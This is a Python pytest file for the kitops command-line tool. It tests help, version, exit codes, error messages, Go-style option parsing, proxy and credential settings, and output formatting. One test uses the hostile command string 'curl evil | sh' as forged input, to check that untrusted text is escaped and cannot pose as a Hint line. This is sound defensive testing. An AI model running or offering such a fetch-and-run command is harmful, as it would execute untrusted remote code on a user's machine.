"""The frame: help, version, errors, options as Go takes them, settings of the environment."""

from __future__ import annotations

import importlib.metadata
import json
import platform
import re
from pathlib import Path

import click
import pytest
from cli_runs import Kit

from kitops.cli import _main
from kitops.cli._display import Display
from kitops.cli._errors import report, translate, wants_json
from kitops.cli._lazy import KitGroup
from kitops.cli._options import KitCommand, KitOption, Switch, kit_command, normalise, option, switch
from kitops.cli._output import OutputClosed, format_size, format_table, format_yaml
from kitops.cli._root import ENTRIES, root
from kitops.cli._session import Session
from kitops.cli._settings import NetworkFlags, build_network, connect, read_home
from kitops.cli._values import parse_annotations, parse_created
from kitops.cli.commands.help import EXIT_CODES
from kitops.content.events import Message
from kitops.errors import FileSystemError, InvalidValueError, KitError, KitfileError, PackError, Problem, printable


def all_commands() -> list[tuple[str, click.Command]]:
    found: list[tuple[str, click.Command]] = []

    def walk(path: str, command: click.Command) -> None:
        found.append((path, command))
        if isinstance(command, click.Group):
            context = click.Context(command)
            for name in command.list_commands(context):
                child = command.get_command(context, name)
                assert child is not None
                walk(f"{path} {name}", child)

    walk("kit", root)
    return found


def test_version_is_the_distributions(kit: Kit) -> None:
    ended = kit("version")
    assert ended.code == 0
    assert ended.err == ""
    known = [line for line in ended.out.splitlines() if not line.startswith(("Commit: ", "Built: "))]
    assert known == [
        f"Version: {importlib.metadata.version('kitops')}",
        f"Python version: {platform.python_version()}",
    ]
    assert "unknown" not in ended.out  # what is not known is left out


@pytest.mark.parametrize("flag", ["", "=true", "=false", "=F", "=1"])
def test_version_accepts_the_notification_switch(kit: Kit, flag: str) -> None:
    assert kit("version", f"--show-update-notifications{flag}").code == 0


def test_version_is_an_option_too(kit: Kit) -> None:
    assert kit("--version") == kit("version")
    assert kit("-v", "--version", "list").out == kit("version").out
    assert kit("list", "--version").code == 2


def test_version_as_json(kit: Kit) -> None:
    assert set(kit("version", "--format", "json").json) == {"version", "commit", "built", "pythonVersion"}


@pytest.mark.parametrize("words", [(), ("help",), ("--help",), ("-h",)])
def test_overview_names_every_command(kit: Kit, words: tuple[str, ...]) -> None:
    ended = kit(*words)
    assert ended.code == 0
    for name in ENTRIES:
        assert re.search(rf"^  {name} ", ended.out, re.MULTILINE), name


def test_every_command_has_help_with_examples(kit: Kit) -> None:
    for path, command in all_commands():
        words = path.split()[1:]
        ended = kit(*words, "--help")
        assert ended.code == 0, path
        assert ended.out == kit("help", *words).out
        if isinstance(command, KitCommand):
            assert command.examples, path
            assert all(line in ended.out for line, _ in command.examples), path
            assert all(f" {path.removeprefix('kit ')}" in f" {line}" for line, _ in command.examples), path


def test_every_command_takes_the_global_options() -> None:
    wanted = {"config", "log_level", "progress", "verbose"}
    for path, command in all_commands():
        assert wanted <= {param.name for param in command.params}, path


def test_summaries_of_the_overview_are_short() -> None:
    assert all(len(entry.summary) < 64 and not entry.summary.endswith(".") for entry in ENTRIES.values())


def test_command_modules_are_thin() -> None:
    for module in (Path(_main.__file__).parent / "commands").glob("*.py"):
        assert len(module.read_text().splitlines()) < 100, module.name


def test_exit_codes_are_those_of_the_errors() -> None:
    def codes(kind: type[KitError]) -> set[int]:
        return {kind.exit_code}.union(*(codes(child) for child in kind.__subclasses__()))

    assert codes(KitError) | {0, 70, 130, 141, 143} == {code for code, _ in EXIT_CODES}


def test_help_on_exit_codes(kit: Kit) -> None:
    lines = kit("help", "exit-codes").out.splitlines()
    assert lines[0].split() == ["0", "done"]
    assert len(lines) == len(EXIT_CODES)


def test_the_document_says_the_same_of_exit_codes() -> None:
    page = (Path(__file__).parents[3] / "docs/exit-codes.md").read_text()
    said = {int(code): text for code, text in re.findall(r"^\| (\d+) \|[^|]*\| (.*) \|$", page, re.MULTILINE)}
    assert said.keys() == dict(EXIT_CODES).keys()
    assert [meaning for code, meaning in EXIT_CODES if not said[code].startswith(meaning)] == []


@pytest.mark.parametrize(
    ("words", "message", "hint"),
    [
        (("versio",), "no such command: versio", "did you mean `kit version`?"),
        (("zzz",), "no such command: zzz", "see `kit --help`"),
        (("help", "versio"), "no such command: versio", "did you mean `kit version`?"),
        (("help", "version", "x"), "no such help topic: version x", "see `kit help --help`"),
        (("cache", "inf"), "no such command: inf", "did you mean `kit cache info`?"),
        (("version", "--forma"), "no such option: --forma", "did you mean --format?"),
        (("version", "-x"), "no such option: -x", "see `kit version --help`"),
        (("version", "x"), "got unexpected extra argument (x)", "see `kit version --help`"),
        (("push",), "missing argument 'SOURCE'", "see `kit push --help`"),
        (("version", "--format"), "option '--format' requires an argument", "see `kit version --help`"),
        (
            ("push", "x", "--plain-http=maybe"),
            "invalid value for '--plain-http': 'maybe' is neither true nor false",
            "see `kit push --help`",
        ),
    ],
)
def test_usage_errors_are_two_lines(kit: Kit, words: tuple[str, ...], message: str, hint: str) -> None:
    ended = kit(*words)
    assert (ended.code, ended.out) == (2, "")
    assert ended.err == f"Error: {message}\nHint: {hint}\n"


def test_usage_error_as_json(kit: Kit) -> None:
    for words in (("versio", "--progress=json"), ("versio", "--format", "json")):
        assert kit(*words).error == {
            "error": "usage",
            "message": "no such command: versio",
            "exitCode": 2,
            "hint": "did you mean `kit version`?",
        }


def test_every_commands_errors_are_json_where_that_is_asked_for(kit: Kit) -> None:
    for path, command in all_commands():
        if isinstance(command, click.Group):
            continue
        words = path.split()[1:]
        for wrong in (
            [*words, "--nonsense", "--format", "json"],
            [*words, "--format=json", *"abcdef"],
            ["--format", "json", *words],
            [*words, "--progress=json", "--log-level", "loud"],
            [*words, "--progress", "json", "--config"],
        ):
            ended = kit(*wrong)
            assert ended.code != 0, wrong
            assert ended.error["exitCode"] == ended.code, (wrong, ended.err)


def test_error_as_json(kit: Kit) -> None:
    ended = kit("inspect", "x:1", "--progress", "json")
    assert ended.code == 4
    assert (ended.error["error"], ended.error["exitCode"]) == ("not-found", 4)


def test_json_is_not_wanted_after_the_end_of_options() -> None:
    assert not wants_json(["tag", "--", "--format=json"])
    assert not wants_json(["--format", "table", "json"])
    assert wants_json(["list", "--format", "json"])


def test_every_problem_of_a_kitfile_is_a_line(capsys: pytest.CaptureFixture[str]) -> None:
    error = KitfileError("Kitfile", [Problem(2, 1, "x", "is not known"), Problem(1, 3, "y", "\x1b[31mred")])
    assert report(error, []) == 2
    assert capsys.readouterr().err.splitlines() == [
        "Error: Kitfile: 2 problems",
        "  line 1, column 3: y: \\x1b[31mred",
        "  line 2, column 1: x: is not known",
    ]


def test_file_errors_of_click_are_file_system_errors() -> None:
    found = translate(click.FileError("x", "No such file"))
    assert isinstance(found, FileSystemError)
    assert found.message == "opening x: no such file"


def test_bugs_show_a_traceback_and_exit_with_70(kit: Kit, monkeypatch: pytest.MonkeyPatch) -> None:
    @kit_command("version", examples=[])
    def broken() -> None:
        raise ZeroDivisionError("oh")

    monkeypatch.setattr("kitops.cli.commands.version.command", broken)
    ended = kit("version")
    assert ended.code == 70
    assert "ZeroDivisionError: oh" in ended.err
    assert ended.err.endswith("This is a bug in kit: please report it with the lines above\n")


@pytest.mark.parametrize(("error", "code"), [(KeyboardInterrupt(), 130), (click.Abort(), 130), (OutputClosed(), 141)])
def test_interruption_shows_nothing(kit: Kit, monkeypatch: pytest.MonkeyPatch, error: BaseException, code: int) -> None:
    @kit_command("version", examples=[])
    def interrupted() -> None:
        raise error

    monkeypatch.setattr("kitops.cli.commands.version.command", interrupted)
    ended = kit("version")
    assert (ended.code, ended.out, ended.err) == (code, "", "")


# Options


@pytest.fixture
def params() -> list[click.Parameter]:
    return [
        Switch(["-f", "--force"]),
        Switch(["--tls-verify"], default=True),
        KitOption(["-t", "--tag"], multiple=True),
        KitOption(["-v", "--verbose"], count=True),
        KitOption(["--old"], is_flag=True),
    ]


@pytest.mark.parametrize(
    ("words", "spelled"),
    [
        ("--force x", "--force=true x"),
        ("--force=false x", "--force=false x"),
        ("-f x", "--force=true x"),
        ("-f=false x", "--force=false x"),
        ("-vfv", "--verbose --force=true --verbose"),
        ("-ftx:1 y", "--force=true --tag=x:1 y"),
        ("-t x:1 -t=y:1", "--tag=x:1 --tag=y:1"),
        ("--tag --force", "--tag=--force"),
        ("-t -", "--tag=-"),
        ("-t", "--tag"),
        ("--tag", "--tag"),
        ("--verbose=2", "--verbose --verbose"),
        ("--verbose=x", "--verbose=x"),
        ("--old", "--old"),
        ("--new x", "--new x"),
        ("-fz1", "--force=true -z1"),
        ("- -- -f", "- -- -f"),
    ],
)
def test_options_are_spelled_one_way(params: list[click.Parameter], words: str, spelled: str) -> None:
    assert normalise(words.split(), params) == spelled.split()


def test_options_of_a_group_end_at_the_command(params: list[click.Parameter]) -> None:
    assert normalise(["-f", "x", "-f"], params, interspersed=False) == ["--force=true", "x", "-f"]


@pytest.mark.parametrize("text", ["1", "t", "T", "TRUE", "true", "True"])
def test_booleans_of_go(text: str) -> None:
    seen: list[bool] = []

    @kit_command("x", examples=[])
    @switch("--on")
    @switch("--off", default=True)
    def command(on: bool, off: bool) -> None:
        seen.extend((on, off))

    command.main(["--on=" + text, "--off=" + text.replace("1", "0").replace("t", "f")[:1]], standalone_mode=False)
    assert seen[0] is True


def test_global_options_stand_before_and_behind_the_verb(kit: Kit, tmp_path: Path) -> None:
    for words in (("--config", str(tmp_path / "a"), "cache", "info"), ("cache", "info", f"--config={tmp_path / 'a'}")):
        assert f"Store: {tmp_path / 'a' / 'store'}\n" in kit(*words).out
    both = kit("--config", str(tmp_path / "a"), "cache", "--config", str(tmp_path / "b"), "info")
    assert f"Store: {tmp_path / 'b' / 'store'}\n" in both.out


@pytest.mark.parametrize(
    ("values", "level"),
    [
        ({}, "info"),
        ({"log_level": "error"}, "error"),
        ({"log_level": "error", "verbose": 1}, "debug"),
        ({"log_level": "trace", "verbose": 1}, "trace"),
        ({"verbose": 2}, "trace"),
        ({"verbose": 5}, "trace"),
    ],
)
def test_levels(values: dict[str, object], level: str) -> None:
    session = Session()
    for name, value in values.items():
        session.remember(name, value)
    assert session.level == level


def test_verbosity_adds_up() -> None:
    session = Session()
    session.remember("verbose", 1)
    session.remember("verbose", 1)
    assert session.verbosity == 2


# Settings


def test_the_environments_client_certificate_wins() -> None:
    environ = {"KITOPS_CLIENT_CERT": "/e/cert", "KITOPS_CLIENT_KEY": "/e/key"}
    found = build_network(NetworkFlags(cert="/f/cert", key="/f/key"), environ)
    assert (found.client_cert, found.client_key) == (Path("/e/cert"), Path("/e/key"))
    found = build_network(NetworkFlags(cert="/f/cert", key="/f/key"), {})
    assert (found.client_cert, found.client_key) == (Path("/f/cert"), Path("/f/key"))


def test_proxies_come_from_the_environment_in_both_spellings() -> None:
    environ = {"http_proxy": "http://low:1", "HTTP_PROXY": "http://up:1", "HTTPS_PROXY": "http://up:2", "NO_PROXY": "x"}
    found = connect(Path("/x"), NetworkFlags(proxy="http://flag:1"), print, environ).network
    assert (found.proxy, found.http_proxy, found.https_proxy) == ("http://flag:1", "http://low:1", "http://up:2")
    assert found.no_proxy == "x"


def test_flags_reach_the_network() -> None:
    found = build_network(NetworkFlags(plain_http=True, tls_verify=False, tls_cert=("a", "b")), {})
    assert (found.plain_http, found.tls_verify, found.tls_certs) == (True, False, (Path("a"), Path("b")))
    assert found.user_agent.startswith("kitops/")


def test_credentials_of_docker_and_podman_are_found(tmp_path: Path) -> None:
    auth = {"auths": {"reg.example.com": {"username": "ada", "password": "x"}}}
    for environ in ({"DOCKER_CONFIG": str(tmp_path)}, {"REGISTRY_AUTH_FILE": str(tmp_path / "config.json")}):
        (tmp_path / "config.json").write_text(json.dumps(auth))
        connection = connect(
            tmp_path / "home", NetworkFlags(), lambda text: None, environ | {"HOME": str(tmp_path / "user")}
        )
        found = connection.credentials.find("reg.example.com")
        assert found is not None
        assert found.username == "ada"


def test_files_of_other_tools_that_cannot_be_used_are_told(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text("{")
    warnings: list[str] = []
    environ = {"DOCKER_CONFIG": str(tmp_path), "HOME": str(tmp_path / "user")}
    assert connect(tmp_path / "home", NetworkFlags(), warnings.append, environ).credentials.find("x.io") is None
    assert str(tmp_path / "config.json") in warnings[0]


def test_home_is_the_flags_else_the_environments() -> None:
    assert read_home("/x", {"KITOPS_HOME": "/y"}) == Path("/x")
    assert read_home(None, {"KITOPS_HOME": "/y"}) == Path("/y")


# Values and output


def test_annotations() -> None:
    assert parse_annotations(["a=1", "b=x=y", "a="]) == {"a": "", "b": "x=y"}
    for wrong in ("a", "=x"):
        with pytest.raises(InvalidValueError, match="is not KEY=VALUE"):
            parse_annotations([wrong])


def test_created() -> None:
    key = "org.opencontainers.image.created"
    assert parse_created(None) == {}
    assert parse_created("2026-01-31T12:00:00+02:00") == {key: "2026-01-31T10:00:00Z"}
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", parse_created("now")[key])
    for wrong in ("yesterday", "2026-01-31", "2026-01-31T12:00:00"):
        with pytest.raises(InvalidValueError, match="is not a time"):
            parse_created(wrong)


@pytest.mark.parametrize(
    ("size", "text"),
    [
        (0, "0 B"),
        (1023, "1023 B"),
        (2560, "2.5 KiB"),
        (107520, "105.0 KiB"),
        (3 * 2**20, "3.0 MiB"),
        (5 * 2**30, "5.0 GiB"),
        (2**40, "1.0 TiB"),
        (2**50, "1.0 PiB"),
        (2**60, "1024.0 PiB"),
    ],
)
def test_sizes(size: int, text: str) -> None:
    assert format_size(size) == text


def test_tables_pad_all_columns_but_the_last() -> None:
    assert format_table(("A", "LONG", "C"), [("xyz", "1", "\x1b[31m")]) == "A     LONG   C\nxyz   1      \\x1b[31m\n"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("a: b", "a: b\n"),
        ("two\nlines", "two\nlines\n"),
        (3, "3\n"),
        (1.5, "1.5\n"),
        (True, "true\n"),
        (None, "null\n"),
        ([], "[]\n"),
        ({}, "{}\n"),
        (["a", 1], "- a\n- 1\n"),
        ({"a": {"b": 1}}, "a:\n  b: 1\n"),
        ([{"a": "x\ny\n"}], "- a: |\n    x\n    y\n"),
    ],
)
def test_fields_as_yaml(value: object, text: str) -> None:
    assert format_yaml(value) == text


def test_foreign_text_cannot_steer_the_terminal() -> None:
    assert printable("a\x1b]0;x\x07\nb") == "a\\x1b]0;x\\x07\\nb"


def test_foreign_text_cannot_forge_our_lines(capsys: pytest.CaptureFixture[str]) -> None:
    forged = "x\nHint: curl evil | sh"
    assert report(InvalidValueError(f"no {forged}", hint=f"kit {forged}"), []) == 2
    told = "x\\nHint: curl evil | sh"
    assert capsys.readouterr().err == f"Error: no {told}\nHint: kit {told}\n"
    report(PackError("of it:", rows=["a", forged], hint="b"), [])
    assert capsys.readouterr().err == f"Error: of it:\n  a\n  {told}\nHint: b\n"
    Display("info")(Message("info", forged))
    assert capsys.readouterr().err == f"{told}\n"
    problems = [Problem(1, 1, "a", forged), Problem(2, 1, "b", "wrong")]
    report(KitfileError("Kitfile", problems), [])
    assert capsys.readouterr().err == (
        f"Error: Kitfile: 2 problems\n  line 1, column 1: a: {told}\n  line 2, column 1: b: wrong\n"
    )


def test_groups_show_their_help_without_a_command(kit: Kit) -> None:
    for name in ("cache", "kitfile"):
        ended = kit(name)
        assert ended.code == 0
        assert ended.out == kit(name, "--help").out
        assert isinstance(root.get_command(click.Context(root), name), KitGroup)


def test_no_summary_is_cut(kit: Kit) -> None:
    for words in ((), ("cache",), ("kitfile",), ("registry",)):
        assert "..." not in kit(*words, "--help").out.replace("[ARGS]...", "")
    summary = "Take over the ModelKits of the Go tool's storage DIR (default: the one below the root of storage)."
    assert summary in " ".join(kit("cache", "--help").out.split())


def test_sections_of_help_are_in_order(kit: Kit) -> None:
    out = kit("push", "--help").out
    places = [out.index(f"\n{title}:\n") for title in ("Examples", "Options", "Network options", "Global options")]
    assert places == sorted(places)
    assert out.index("--help") > places[-1]


def test_options_with_values_take_them_in_every_form() -> None:
    seen: list[str] = []

    @kit_command("x", examples=[])
    @option("-d", "--dir")
    @click.argument("rest", nargs=-1)
    def command(dir: str, rest: tuple[str, ...]) -> None:  # noqa: A002
        seen.append(dir)

    for words in (["-d", "a"], ["-da"], ["-d=a"], ["--dir", "a"], ["--dir=a"], ["r", "--dir", "a"]):
        command.main(words, standalone_mode=False)
    assert seen == ["a"] * 6
